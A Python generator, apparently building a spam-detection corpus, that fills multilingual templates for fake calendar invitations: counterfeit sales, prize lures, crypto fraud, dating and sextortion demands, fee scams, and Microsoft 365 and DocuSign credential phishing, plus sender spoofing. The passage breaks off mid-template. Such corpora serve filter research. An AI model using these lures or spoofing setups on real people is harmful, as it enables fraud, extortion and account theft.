# -*- coding: utf-8 -*-
"""Spam categories for holdout16. Every text here was written for this corpus."""
from datetime import timedelta, datetime

import people
from common import (set_arrival, ev_time, event, att, org_of, rcpt_att, identity, person, local_part, make_rcpt,
                    lookalike, money, code, shortlink, abused_host, other_org, L, ORGS)
from content import (pick, fill, apply_payload, choose_placement, spam_sender, throwaway, compromised, lookalike_id,
                     fresh_domain, spam_url, btc_addr, wa_number, tg_handle, many_attendees, set_list, URLTOK,
                     put_url, strip_url_lines, junk_local, F)
from clients import legacy_for_lang
from util import rid, ALNUM, LOWALNUM, HEX, HEXU, uuid
import tz as TZ

# ====================================================================== shared

SCRIPT_QUIRKS = ['no_method', 'method_mismatch', 'nofold', 'badfold', 'charfold', 'lf_ics', 'no_dtstamp', 'unescaped',
                 'tzid_no_vtimezone', 'mime_method_mismatch', 'no_mime_method', 'raw8_subject']


def inner(c):
    return c.client_inner if c.client == 'mlist' else c.client


def spam_spec(c, ev, method='REQUEST', **kw):
    rng = c.rng
    cl = inner(c)
    q = set()
    spec = dict(method=method, events=[ev], quirks=q)
    if cl == 'script':
        for x in rng.sample(SCRIPT_QUIRKS, rng.randint(1, 3)):
            q.add(x)
        if 'no_method' in q:
            q.discard('method_mismatch')
        spec['charset'] = legacy_for_lang(c, 0.6)
        if spec['charset'] != 'utf-8' and rng.random() < 0.35 and 'badfold' not in q:
            spec['ics_charset'] = spec['charset']
        if rng.random() < 0.2:
            spec['method'] = None if 'no_method' in q else spec['method']
    elif cl == 'transactional' and rng.random() < 0.3:
        q.add(rng.choice(['no_method', 'nofold', 'charfold', 'no_dtstamp']))
    spec.update(kw)
    c.spec = spec
    return spec


def brand_tx(c, name, domain, ics_name='event.ics', color=None, footer=None, method_param=True, prodid=None):
    rng = c.rng
    pname = name if name.isascii() else domain
    if c.lang != 'en' and footer is None:
        footer = rng.choice(['', '© %d %s' % (c.year, name)])
    return dict(name=name, prodid=prodid or rng.choice(['-//%s//Calendar//EN' % pname, '-//%s//NONSGML Event//EN' % domain,
                                                         '-//Events//%s//EN' % domain.split('.')[0], '-//ical-generator//EN']),
                uid_domain=domain, ics_name=ics_name, color=color or rng.choice(['#d40511', '#003580', '#1a73e8', '#111111', '#00875a', '#6b2c91']),
                footer=footer or rng.choice(['You are receiving this e-mail because you are a registered customer.', '© %d %s. All rights reserved.' % (c.year, name),
                                             'To unsubscribe click here.', '']),
                uid_style=rng.choice(['numeric', 'uuid', 'md5', 'php']), mime_method=method_param,
                boundary=rng.choice(['sg', 'ses', 'other']), fold=rng.choice(['octets', 'octets', 'none']))


def tzn(c):
    return c.rcpt['tz'] if c.rng.random() < 0.6 else c.sender.get('tz', c.rcpt['tz'])


def base_slots(c):
    return dict(rfirst=c.rcpt['first'], rname=c.rcpt['name'], remail=c.rcpt['email'], rlast=c.rcpt['last'],
                rdomain=c.rcpt['domain'], year=c.year)


def rcpt_list(c, extra=0, free_share=0.55):
    a = [rcpt_att(c, with_name=c.rng.random() < 0.4)]
    if extra:
        a += many_attendees(c, extra, exclude=c.rcpt['email'], free_share=free_share)
        c.rng.shuffle(a)
    return a


def maybe_list(c, subjprefix=None):
    """If the message travels through a list, configure an abused open list."""
    if c.client != 'mlist':
        return
    rng = c.rng
    kind, dom, desc = rng.choice([x for x in [
        ('mailman2', 'lists.riverside-makers.org', 'Riverside Makers'), ('mailman2', 'lists.harbourview-residents.org', 'Harbourview residents'),
        ('googlegroups', 'googlegroups.com', 'Alumni Class of 2009'), ('sympa', 'listes.univ-valmont.fr', 'Doctorants Valmont'),
        ('mailman3', 'lists.kestrel-linux.org', 'Kestrel Linux users'), ('googlegroups', 'googlegroups.com', 'Parents Network'),
        ('mailman2', 'mail.birdwatch-norfolk.org.uk', 'Norfolk birders')]])
    name = {'Riverside Makers': 'members', 'Harbourview residents': 'residents', 'Alumni Class of 2009': 'classof2009-alumni',
            'Doctorants Valmont': 'doctorants', 'Kestrel Linux users': 'users', 'Parents Network': 'parents-network-ne',
            'Norfolk birders': 'sightings'}[desc]
    set_list(c, kind, name, dom, desc, prefix=rng.choice([None, desc.split()[0]]) if kind != 'googlegroups' else None)
    # the invite was addressed to the list
    ev = c.spec['events'][0]
    ev['attendees'] = [a for a in ev['attendees'] if a['email'] != c.rcpt['email']]
    ev['attendees'].append(dict(name=desc, email='%s@%s' % (name, dom), partstat='NEEDS-ACTION', role='REQ-PARTICIPANT',
                                rsvp=True, cutype='GROUP'))


def finalize(c, ev, url, table_text, placement=None, allowed=None, attach_name=None, label=None):
    pl = placement or choose_placement(c, allowed)
    apply_payload(c, ev, url, pl, attach_name=attach_name, label=label)
    c.placement = pl if url else 'none'
    for k in ('summary', 'location'):
        if ev.get(k) and URLTOK in ev[k]:
            ev[k] = put_url(ev[k], url)
    return pl


# ====================================================================== 1 retail sale waves

T_RETAIL = {
    'en': [
        dict(s='{brand} {prod} {pct}% OFF - Only ${price}', d='{brand} {prodl} clearance sale, {pct}% off, only ${price} today!\nFree shipping worldwide.\nShop now: {url}'),
        dict(s='Black Friday Sale: {brand} {prod} up to {pct}% off', d='Black Friday & Cyber Monday deals\n{brand} {prodl} from ${price}\nLimited stock - order before midnight\n{url}'),
        dict(s='Hi {rfirst}, your exclusive {brand} voucher', d='Hi {rfirst},\nAs a valued customer you get {pct}% off everything at our {brand} outlet store with code {code}.\nValid until Sunday.\n{url}'),
        dict(s='{brand} {prod} Clearance ${price}', d='Season clearance: {brand} {prodl} ${price}, {pct}% off retail.\nwww.{shop}', l='www.{shop}'),
        dict(s='Flash sale ends tonight', d='Thank you for being a loyal customer. Tonight only: {pct}% off selected {brand} items.\n{url}'),
        dict(s="Mother's Day gift idea: {brand}", d='{brand} {prodl} from ${price}. {pct}% off storewide + free gift box.\nSee the collection: {url}\nTo unsubscribe reply STOP'),
    ],
    'zh': dict(s='{brand}官方折扣店 清仓特卖 低至{zhe}折', d='{brand}官方授权折扣店 全场{zhe}折起 包邮到家\n正品保证 假一赔十\n点击进入：{url}\n客服微信：{wechat}'),
    'ja': dict(s='【{brand}】アウトレット 最大{pct}%OFF 本日限り', d='{brand} 公式アウトレットセール開催中！\n人気アイテムが最大{pct}%OFF、送料無料。\n在庫限りですのでお早めに。\n▼ご注文はこちら\n{url}'),
    'de': dict(s='{brand} Outlet: -{pct}% nur heute', d='Räumungsverkauf! {brand} ab {price} €, versandkostenfrei.\nNur solange der Vorrat reicht: {url}'),
    'fr': dict(s='Soldes {brand} : jusqu\'à -{pct}%', d='Derniers jours des soldes !\nArticles {brand} à partir de {price} €.\nLivraison gratuite en 48h.\nCommandez ici : {url}'),
    'it': dict(s='Saldi {brand} fino al {pct}%', d='Outlet {brand}: articoli a partire da {price} €.\nSpedizione gratuita e pagamento alla consegna.\nAcquista ora: {url}'),
    'ko': dict(s='(광고) {brand} 정품 아울렛 최대 {pct}% 할인', d='{brand} 시즌오프 특가! 전 품목 무료배송\n한정 수량 조기 품절 주의\n지금 바로 구매하기: {url}\n수신거부: 회신 후 \'거부\' 입력'),
}
BRAND_PRODUCT = {'Ray-Ban': ('Sunglasses', 'sunglasses'), 'Oakley': ('Sunglasses', 'sunglasses'), 'Michael Kors': ('Bags', 'handbags'),
                 'UGG': ('Boots', 'boots'), 'Pandora': ('Charms', 'charms and bracelets'), 'Nike': ('Sneakers', 'trainers'),
                 'Coach': ('Bags', 'handbags'), 'Canada Goose': ('Jackets', 'parkas'), 'Moncler': ('Jackets', 'down jackets'),
                 'Longchamp': ('Bags', 'totes'), 'Lululemon': ('Leggings', 'yoga wear'), 'Adidas': ('Sneakers', 'trainers'),
                 'Skechers': ('Shoes', 'shoes'), 'Kate Spade': ('Bags', 'handbags')}
BRANDS_RETAIL = ['Ray-Ban', 'Oakley', 'Michael Kors', 'UGG', 'Pandora', 'Nike', 'Coach', 'Canada Goose', 'Moncler',
                 'Longchamp', 'Lululemon', 'Adidas', 'Skechers', 'Kate Spade']


def retail(c):
    rng = c.rng
    if rng.random() < 0.6:
        set_arrival(c, 2016, 2019)
    brand = rng.choice(BRANDS_RETAIL)
    pct = rng.choice([70, 75, 80, 85, 88, 90])
    price = rng.choice(['19.99', '24.99', '29.90', '39.99', '49.00', '9.99', '59'])
    stem = brand.lower().replace(' ', '').replace('-', '')[:rng.randint(3, 7)]
    shop = '%s%s%s.%s' % (stem, rng.choice(['outlet', 'sale', 'store', 'deals', 'shop', 'clearance']),
                          str(c.year % 100) if rng.random() < 0.5 else '', rng.choice(['com', 'us.com', 'top', 'shop', 'online', 'net', 'co']))
    url = rng.choice(['http://www.%s/' % shop, 'https://www.%s/?ref=%s' % (shop, rid(rng, 6, LOWALNUM)), 'www.%s' % shop, shortlink(rng)])
    disp = rng.choice([None, None, '%s Store' % brand, '%s Outlet' % brand])
    if inner(c) == 'transactional':
        spam_sender(c, display='%s Outlet' % brand, brand_domain=shop)
    else:
        spam_sender(c, display=disp)
    t = pick(c, T_RETAIL)
    sl = base_slots(c)
    sl.update(brand=brand, pct=pct, price=price, shop=shop, code=code(rng, 8), zhe=max(1, round((100 - pct) / 10)),
              prod=BRAND_PRODUCT[brand][0], prodl=BRAND_PRODUCT[brand][1],
              wechat=rid(rng, 3, 'abcdefghijklmnopqrstuvwxyz') + rid(rng, 6, '0123456789'))
    t = fill(t, sl)
    tzname = tzn(c)
    allday = rng.random() < 0.4
    st, en = ev_time(c, tzname, days=(0, 6), hour=(8, 20), dur=rng.choice([30, 60, 120]), weekday_only=False)
    if allday:
        st = datetime(st.year, st.month, st.day)
        en = st + timedelta(days=1)
    extra = 0 if inner(c) in ('transactional',) else rng.choice([0, 4, 12, 25, 48])
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, extra), location=t.get('l'), allday=allday)
    if rng.random() < 0.3:
        ev['rrule'] = 'FREQ=DAILY;COUNT=%d' % rng.choice([3, 5, 7, 14])
    if inner(c) == 'script':
        ev['comp'] = 'VTODO'
        ev['status'] = 'NEEDS-ACTION'
        ev['priority'] = 1
    spam_spec(c, ev)
    if inner(c) == 'transactional':
        c.spec['brand'] = brand_tx(c, '%s Outlet' % brand, shop, 'sale.ics')
        c.spec['subject'] = t['s']
        c.spec['method'] = rng.choice(['PUBLISH', 'REQUEST'])
    finalize(c, ev, url, t)
    maybe_list(c)
    c.desc = '%s discount-sale invitation (%s)' % (brand, c.lang)


# ====================================================================== 2 prize / survey / gift-card lures

T_PRIZE = {
    'en': [
        dict(s='Congratulations {rfirst}! You have been selected', d='Dear customer,\nYou have been selected to receive a {cur}{amount} {store} gift card.\nTo claim it, complete our 30-second customer survey before {date}.\n{url}\nReference: {ref}'),
        dict(s='{store} Rewards: your points expire today', d='Your {store} Rewards balance of {points} points (worth {cur}{amount}) will expire at midnight.\nRedeem now for a gift card or electronics:\n{url}'),
        dict(s='Final notice - unclaimed reward #{ref}', d='We tried to contact you about your reward several times. This is the final notice before it is reassigned.\nClaim: {url}'),
        dict(s="You're our lucky visitor of the month!", d='Every month we pick one lucky user to win a {prize}. This month it is you!\nPay only {cur}2.00 shipping to receive your prize.\n{url}'),
        dict(s='Customer satisfaction survey - {cur}{amount} reward', d='Thank you for shopping at {store}. Tell us about your experience and receive {cur}{amount} as a thank-you.\nSurvey link: {url}'),
        dict(s='Quick question', d='Hi, you have a pending reward from your recent order ({ref}). It only takes a minute.\n{url}'),
    ],
    'es': dict(s='¡Felicidades! Has sido seleccionado para ganar un {prize}', d='Estimado cliente de {store}:\nHas sido elegido para participar en nuestra encuesta anual. Responde 4 preguntas y recibe un {prize}.\nSolo pagas 1,95 € de envío.\n{url}'),
    'pt': dict(s='Parabéns! Você ganhou um kit {store}', d='Olá {rfirst}!\nVocê foi sorteado(a) na promoção de aniversário {store}. Para receber seu kit, responda à pesquisa e pague apenas o frete de R$ 9,90.\nResgate até hoje: {url}'),
    'pl': dict(s='Gratulacje! Bon {store} o wartości {amount} zł', d='Drogi Kliencie,\nzostałeś wylosowany w naszej ankiecie konsumenckiej. Odbierz bon {store} o wartości {amount} zł – wypełnienie zajmie tylko minutę.\n{url}'),
    'tr': dict(s='Tebrikler! {store} hediye çekiniz hazır', d='Değerli müşterimiz,\n{store} memnuniyet anketimize katılarak {amount} TL değerinde hediye çeki kazandınız. Çekinizi almak için anketi bugün tamamlayın:\n{url}'),
    'ar': dict(s='مبروك! لقد ربحت بطاقة هدايا من {store}', d='عزيزي العميل،\nتم اختيارك للحصول على بطاقة هدايا بقيمة {amount} ريال من {store}.\nأكمل الاستبيان القصير خلال 24 ساعة لاستلام جائزتك:\n{url}'),
}
STORES = {'en': ['Costco', 'Walmart', 'Amazon', 'Target', 'Tesco', 'Lidl', "Kohl's", 'Best Buy', 'Home Depot'],
          'es': ['Mercadona', 'El Corte Inglés', 'Carrefour'], 'pt': ['Natura', 'O Boticário', 'Magazine Luiza'],
          'pl': ['Biedronka', 'Lidl', 'Rossmann'], 'tr': ['Migros', 'BİM', 'Trendyol'], 'ar': ['نون', 'كارفور', 'إكسترا', 'لولو']}
PRIZES = {'en': ['iPhone 16 Pro', 'Dyson V15 vacuum', 'PlayStation 5', 'Samsung Galaxy S24', 'KitchenAid mixer'],
          'es': ['iPhone 15', 'robot aspirador', 'patinete eléctrico']}


def prize(c):
    rng = c.rng
    store = rng.choice(STORES[c.lang])
    cur = {'en': rng.choice(['$', '£', '$']), 'es': '€'}.get(c.lang, '')
    amount = rng.choice(['50', '100', '250', '500', '750', '1000'])
    if inner(c) == 'transactional':
        spam_sender(c, display='%s Rewards' % store if c.lang == 'en' else store, brand_domain=fresh_domain(rng, 'reward'))
    else:
        spam_sender(c, display=rng.choice([None, '%s Customer Care' % store if c.lang == 'en' else None, 'Rewards Team']))
    url = spam_url(c, rng.choice(['reward', 'survey', 'gift', 'claim']))
    t = pick(c, T_PRIZE)
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 3), hour=(8, 21), dur=rng.choice([15, 30, 60]), weekday_only=False)
    sl = base_slots(c)
    sl.update(store=store, cur=cur, amount=amount, ref=code(rng, 8, '0123456789ABCDEF'), points=rng.randint(12000, 98000),
              prize=rng.choice(PRIZES.get(c.lang, PRIZES['en'])), date=people.fmt_date(c.lang, st))
    t = fill(t, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 6, 20])))
    spam_spec(c, ev)
    if inner(c) == 'transactional':
        c.spec['brand'] = brand_tx(c, '%s Rewards' % store, c.sender['domain'], 'reward.ics')
        c.spec['subject'] = t['s']
        c.spec['method'] = rng.choice(['PUBLISH', 'REQUEST', None])
    finalize(c, ev, url, t)
    if rng.random() < 0.3 and ev.get('location') is None:
        ev['location'] = rng.choice(['Online', 'Survey', store])
    maybe_list(c)
    c.desc = '%s gift-card / prize survey lure (%s)' % (store, c.lang)


# ====================================================================== 3 crypto and investment fraud

T_CRYPTO = {
    'en': [
        dict(s='Your BTC withdrawal is pending', d='Account balance: {btc} BTC (≈ ${usd})\nStatus: ready for withdrawal\nConfirm your wallet within 24 hours or the funds will be returned to the pool.\nLogin: {url}'),
        dict(s='{platform} - AI trading live session (limited seats)', d='Join our free live session and see how our AI bot made {pct}% last month.\nMinimum deposit only $250. Our account managers will guide you step by step.\nRegister: {url}'),
        dict(s='Bitcoin giveaway LIVE', d='To celebrate our partnership we are giving away 5,000 BTC. Send any amount between 0.1 and 20 BTC to the address below and receive double back instantly.\n{btcaddr}\nLive stream: {url}'),
        dict(s='Presale allocation confirmed', d='Hi {rfirst}, your whitelist spot for the {token} presale is confirmed. Allocation closes in 48h.\nConnect your wallet: {url}'),
        dict(s='Re: our call about your portfolio', d='As discussed on the phone, here is the link to open your account with {platform}. Your personal manager will call you back. Please have your ID ready.\n{url}\nWhatsApp: {wa}'),
    ],
    'ru': dict(s='Пассивный доход от {pct}% в месяц на криптовалюте', d='Здравствуйте!\nПриглашаем на бесплатный вебинар: как наш торговый робот зарабатывает {pct}% в месяц без вашего участия.\nСтартовый депозит от 20 000 руб. Количество мест ограничено.\nРегистрация: {url}\nTelegram: {tg}'),
    'de': dict(s='Ihr Bitcoin-Guthaben: {btc} BTC', d='Sehr geehrte Kundin, sehr geehrter Kunde,\nauf Ihrem Konto bei {platform} liegt ein Guthaben von {btc} BTC (ca. {eur} €). Bitte bestätigen Sie die Auszahlung innerhalb von 48 Stunden.\n{url}'),
    'ko': dict(s='무료 코인 리딩방 초대 (VIP {pct}% 수익 인증)', d='안녕하세요 {rfirst}님\n지난달 VIP 회원 평균 수익률 {pct}% 달성!\n지금 무료 리딩방에 입장하시면 급등 종목을 실시간으로 알려드립니다.\n텔레그램: {tg}\n오픈채팅: {url}'),
    'tr': dict(s='Kripto sinyal grubuna ücretsiz katılım', d='Merhaba,\nGünlük %{pct} kazanç sağlayan VIP kripto sinyal grubumuza bugün ücretsiz katılabilirsiniz.\nKontenjan sınırlı!\nTelegram: {tg}\n{url}'),
    'nl': dict(s='Uitnodiging: beleggen met AI – gratis webinar', d='Beste {rfirst},\nOntdek hoe gewone Nederlanders met het AI-handelsplatform {platform} tot € {eur} per week verdienen. Start al vanaf € 250.\nAanmelden: {url}'),
    'th': dict(s='ลงทุนคริปโต กำไร {pct}% ต่อสัปดาห์', d='สวัสดีค่ะ\nเชิญเข้าร่วมกลุ่มลงทุนคริปโตฟรี มีโค้ชดูแลตลอด 24 ชั่วโมง กำไรเฉลี่ย {pct}% ต่อสัปดาห์\nทุนเริ่มต้นเพียง 1,000 บาท\nแอดไลน์: {line}\n{url}'),
}
PLATFORMS = ['NexaTrade AI', 'BitVortex', 'Quantix Pro', 'CoinSphere Elite', 'Altrion Capital', 'Vertex Bit 360', 'Aurum FX Prime']


def crypto(c):
    rng = c.rng
    set_arrival(c, 2017, 2026)
    plat = rng.choice(PLATFORMS)
    btc = '%.4f' % rng.uniform(0.3, 2.4)
    usd = '{:,}'.format(int(float(btc) * rng.randint(28000, 68000)))
    cl = inner(c)
    if cl == 'transactional':
        spam_sender(c, display=plat, brand_domain=fresh_domain(rng, plat.split()[0].lower()))
    else:
        spam_sender(c, display=rng.choice([None, plat, plat + ' Support']))
    url = spam_url(c, plat.split()[0].lower())
    t = pick(c, T_CRYPTO)
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 5), hour=(10, 21), dur=rng.choice([45, 60, 90]), weekday_only=False)
    sl = base_slots(c)
    sl.update(btc=btc, usd=usd, eur='{:,}'.format(int(float(btc) * 50000)).replace(',', '.'), platform=plat,
              pct=rng.choice([18, 27, 34, 42, 61, 120, 300]), token=rng.choice(['$NOVA', '$ZEPHYR', '$QRX', '$LUMA']),
              btcaddr=btc_addr(rng), wa=wa_number(rng), tg=tg_handle(rng), line='@' + rid(rng, 7, LOWALNUM))
    t = fill(t, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 3, 15])))
    kw = {}
    if cl == 'zoom':
        kw = dict(webinar=True, zoom_from_name=plat, webinar_contact=c.sender['email'])
        c.sender = dict(c.sender)
        ev['organizer'] = org_of(c.sender)
        c.sender.update(email='no-reply@zoom.us', domain='zoom.us', kind='service', name=plat)
    spam_spec(c, ev, **kw)
    if cl == 'transactional':
        c.spec['brand'] = brand_tx(c, plat, c.sender['domain'], 'webinar.ics')
        c.spec['subject'] = t['s']
        if c.lang == 'ru':
            c.spec['charset'] = 'windows-1251'
    finalize(c, ev, url, t)
    if cl == 'transactional':
        for k in (1, 2):
            e2 = dict(ev)
            e2['start'] = ev['start'] + timedelta(days=k)
            e2['end'] = ev['end'] + timedelta(days=k)
            e2['uid'] = None
            e2['summary'] = '%s (%d/3)' % (ev['summary'], k + 1)
            c.spec['events'].append(e2)
        ev['summary'] = '%s (1/3)' % ev['summary']
    maybe_list(c)
    c.desc = 'crypto / investment fraud invitation, %s (%s)' % (plat, c.lang)


# ====================================================================== 4 dating and sextortion

T_DATING = {
    'en': [
        dict(s='{fname} (26) sent you a private message', d="Hi! I saw your profile and I think we have a lot in common ;) I'm online tonight.\nMy photos are here: {url}"),
        dict(s='3 women near {city} want to meet you', d='New matches near you are waiting. Confirm your free account to see their photos.\n{url}'),
        dict(s='I know your secret', d="Hello,\nI have had access to your device for some months now. I recorded you through your camera while you visited adult websites. If you don't want your contacts to receive the video, transfer ${usd} in Bitcoin to:\n{btcaddr}\nYou have 48 hours. Don't reply, this mailbox is not monitored."),
        dict(s='Our date on {day}?', d="Hey you, it was so nice chatting yesterday. Are we still meeting? I made a profile on this site so we can video chat first, it's free: {url}\nKisses, {fname}"),
        dict(s='Payment required to delete your video', d='Your password is {pw}. Yes, I know it. I used it to install software on your computer and I have recordings of you. Pay {usd} USD in Bitcoin to {btcaddr} and everything will be deleted.'),
    ],
    'fr': dict(s="J'ai piraté votre appareil", d="Bonjour,\nJ'ai installé un logiciel sur votre ordinateur et j'ai enregistré une vidéo compromettante de vous. Pour que je supprime tout, envoyez {eur} € en Bitcoin à l'adresse suivante :\n{btcaddr}\nVous avez 48 heures."),
    'es': dict(s='Hola guapo, ¿quedamos esta noche?', d='Hola, soy {fname}, tengo 24 años y vivo cerca de ti. Me encantaría conocerte. Mira mis fotos aquí y escríbeme: {url}'),
    'it': dict(s='Ho accesso al tuo dispositivo', d='Ciao,\nho avuto accesso al tuo dispositivo e ho registrato un video mentre guardavi siti per adulti. Se non vuoi che lo mandi a tutti i tuoi contatti, trasferisci {eur} € in Bitcoin a questo indirizzo:\n{btcaddr}\nHai 2 giorni di tempo.'),
    'pl': dict(s='{fname} (27) chce się z Tobą spotkać', d='Hej! Widziałam Twój profil i chętnie bym się spotkała. Jestem dziś wieczorem online.\nMoje zdjęcia: {url}'),
    'he': dict(s='הודעה חדשה מ{fname}', d='היי, ראיתי את הפרופיל שלך ואשמח להכיר. אני זמינה הערב.\nהתמונות שלי כאן: {url}'),
}
FEMALE = {'en': ['Anna', 'Jessica', 'Kate', 'Emily', 'Sophie', 'Natalie'], 'es': ['Lucía', 'Valeria', 'Carla'],
          'pl': ['Kasia', 'Ola', 'Monika'], 'he': ['נועה', 'מאיה', 'שירה'], 'fr': ['Julie'], 'it': ['Giulia']}


def dating(c):
    rng = c.rng
    fname = rng.choice(FEMALE.get(c.lang, FEMALE['en']))
    t = pick(c, T_DATING)
    self_spoof = c.lang == 'en' and inner(c) == 'outlook'
    if self_spoof:
        t = dict(T_DATING['en'][4])
    sexto = 'btcaddr' in t['d']
    if self_spoof:
        # classic sextortion trick: the From is the victim's own address, sent from a VPS
        identity(c, 'spoof', c.rcpt['person'], domain=c.rcpt['domain'], lp=c.rcpt['email'].split('@')[0], name=None,
                 spf_result=rng.choice(['softfail', 'fail', 'none']))
        c.client_var = 'desk'
    else:
        spam_sender(c, display=(fname if not sexto else rng.choice([None, ''])))
    url = spam_url(c, rng.choice(['date', 'meet', 'chat', 'profile']))
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 3), hour=(18, 22), dur=60, weekday_only=False)
    sl = base_slots(c)
    sl.update(fname=fname, city=rng.choice(L['en']['cities']), usd=rng.choice(['1,450', '1,650', '2,000', '950']),
              eur=rng.choice(['1.200', '1.500', '950']), btcaddr=btc_addr(rng), pw=rid(rng, rng.randint(7, 10), LOWALNUM),
              day=people.WDAYS['en'][st.weekday()])
    t = fill(t, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 0, 8])))
    spam_spec(c, ev)
    finalize(c, ev, url, t)
    maybe_list(c)
    c.desc = ('sextortion demand' if sexto else 'dating lure') + ' invitation (%s)' % c.lang


# ====================================================================== 5 delivery / toll / tax / fine fee scams

T_FEE = {
    'en': [
        dict(s='{carrier}: delivery attempt failed - action required', d='We were unable to deliver your parcel {track} because of an incomplete address.\nPlease confirm your details and pay the redelivery fee of {cur}{fee} within 48 hours:\n{url}', b='carrier'),
        dict(s='Unpaid toll notice #{ref}', d='Our records show an unpaid toll balance of ${fee} on your account. To avoid a late fee of $50.00 and possible suspension of your vehicle registration, pay now:\n{url}', b='toll'),
        dict(s='{tax}: tax refund of {cur}{amount} available', d='After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of {cur}{amount}.\nPlease submit the refund request within 3 business days:\n{url}', b='tax'),
        dict(s='Penalty charge notice {ref}', d='A Penalty Charge Notice has been issued for a vehicle registered to you.\nAmount due: £{fee}. Pay within 14 days to avoid an increase to £{fee2}.\n{url}', b='fine'),
        dict(s='Customs duty pending for shipment {track}', d='Your international shipment is held at customs. Duty and tax: {cur}{fee}.\nPay online to release your package:\n{url}', b='carrier'),
        dict(s='Redelivery appointment - {carrier}', d='Your redelivery has been scheduled. To confirm the time slot a small fee of {cur}{fee} is required.\n{url}', b='carrier'),
    ],
    'ja': dict(s='【佐川急便】お荷物のお届けについて', d='お客様宛にお荷物のお届けにあがりましたが、宛先不明のため持ち帰りました。\n下記よりご確認ください。\n{url}\n※再配達には手数料（{fee}円）が必要です。', b='carrier'),
    'fr': dict(s='ANTAI : avis de contravention n°{ref}', d="Madame, Monsieur,\nVous avez commis une infraction au code de la route. Le montant de l'amende forfaitaire est de {fee} €.\nPayez avant le {date} pour éviter une majoration :\n{url}", b='fine'),
    'es': dict(s='DGT: multa pendiente de pago', d='Estimado conductor:\nTiene una sanción de tráfico pendiente por importe de {fee} €. Si la abona en los próximos 3 días se aplicará una reducción del 50 %.\nConsulte y pague aquí: {url}', b='fine'),
    'nl': dict(s='CJIB: openstaande boete {ref}', d='Geachte heer/mevrouw,\nU heeft een openstaande verkeersboete van € {fee}. Betaal binnen 3 dagen om verhoging en deurwaarderskosten te voorkomen.\nBetalen: {url}', b='fine'),
    'el': dict(s='ΕΛΤΑ: Το δέμα σας βρίσκεται σε αναμονή', d='Αγαπητέ πελάτη,\nΤο δέμα σας με αριθμό {track} δεν μπόρεσε να παραδοθεί λόγω ελλιπούς διεύθυνσης. Πληρώστε τα τέλη επαναποστολής {fee} € για να προγραμματίσετε νέα παράδοση:\n{url}', b='carrier'),
    'ar': dict(s='أرامكس: شحنتك بانتظار الدفع', d='عميلنا العزيز،\nلم نتمكن من توصيل شحنتك رقم {track} بسبب رسوم جمركية غير مدفوعة بقيمة {fee} درهم.\nيرجى الدفع خلال 24 ساعة عبر الرابط التالي:\n{url}', b='carrier'),
}
CARRIERS = ['USPS', 'Royal Mail', 'DHL', 'FedEx', 'UPS', 'Evri', 'Canada Post', 'Australia Post']
TOLLS = ['E-ZPass', 'FasTrak', 'SunPass', 'The Toll Roads']
TAXES = [('HMRC', '£'), ('IRS', '$'), ('CRA', '$'), ('ATO', '$')]


def fee(c):
    rng = c.rng
    t0 = pick(c, T_FEE)
    kind = t0.pop('b')
    carrier = rng.choice(CARRIERS)
    tax, tcur = rng.choice(TAXES)
    brandname = {'carrier': carrier, 'toll': rng.choice(TOLLS), 'tax': tax, 'fine': 'Parking Services'}[kind]
    if c.lang != 'en':
        brandname = {'ja': '佐川急便', 'fr': 'ANTAI', 'es': 'DGT', 'nl': 'CJIB', 'el': 'ΕΛΤΑ', 'ar': 'Aramex'}[c.lang]
    stem = {'carrier': 'parcel', 'toll': 'toll', 'tax': 'refund', 'fine': 'pay'}[kind]
    dom = fresh_domain(rng, brandname.lower().replace(' ', '').replace('-', '')[:8] if brandname.isascii() else stem)
    if inner(c) in ('transactional',):
        spam_sender(c, display=brandname, brand_domain=dom)
    elif inner(c) == 'script':
        spam_sender(c, display=brandname, brand_domain=dom)
    else:
        spam_sender(c, display=rng.choice([brandname, brandname + ' Notification', None]))
    url = rng.choice(['https://%s/%s' % (dom, rid(rng, 6, LOWALNUM)), spam_url(c, stem)])
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 2), hour=(8, 18), dur=rng.choice([15, 30]), weekday_only=False)
    cur = rng.choice(['$', '£', '€']) if kind != 'tax' else tcur
    fee_v = rng.choice(['1.99', '2.99', '3.45', '6.99', '4.15', '12.50', '35.00', '70.00'])
    sl = base_slots(c)
    sl.update(carrier=carrier, track=rng.choice(['RN', 'LX', 'JD', 'CP', '00']) + rid(rng, 9, '0123456789') + rng.choice(['GB', 'US', 'DE', '']),
              ref=code(rng, 9, '0123456789'), fee=fee_v if c.lang not in ('ja',) else rng.choice(['330', '550', '198']),
              fee2='%.2f' % (float(fee_v) * 2), cur=cur, amount=money(rng, 180, 980), tax=tax, date=people.fmt_date(c.lang, st, False))
    t = fill(t0, sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, 0))
    spam_spec(c, ev)
    if c.lang == 'el':
        c.spec['charset'] = 'iso-8859-7'
    if inner(c) == 'transactional':
        c.spec['brand'] = brand_tx(c, brandname, c.sender['domain'], rng.choice(['delivery.ics', 'appointment.ics', 'notice.ics']))
        c.spec['subject'] = t['s']
        c.spec['method'] = rng.choice(['PUBLISH', 'REQUEST'])
    finalize(c, ev, url, t)
    c.desc = '%s fee scam (%s, %s)' % (brandname if brandname.isascii() else kind, kind, c.lang)


# ====================================================================== 6 credential phishing under big brands

T_CRED = {
    'en': [
        dict(s='Password expiry notice for {remail}', d='Your password for {remail} expires today.\nTo keep using your current password, verify your account below:\n{url}\nMicrosoft 365 Admin Center', k='m365'),
        dict(s='Mailbox storage full - incoming messages on hold', d='Your mailbox {remail} has reached 99% of its storage quota. 14 incoming messages are on hold.\nRelease pending messages: {url}', k='m365'),
        dict(s='Voice message received ({dur}s) from {ph}', d='You received a new voicemail.\nCaller: {ph}\nDuration: 0:{dur}\nListen to message: {url}', k='voicemail'),
        dict(s='Please DocuSign: {doc}', d='{sname} sent you a document to review and sign.\nREVIEW DOCUMENT\n{url}\nDo not share this email. It contains a secure link to DocuSign.', k='docusign'),
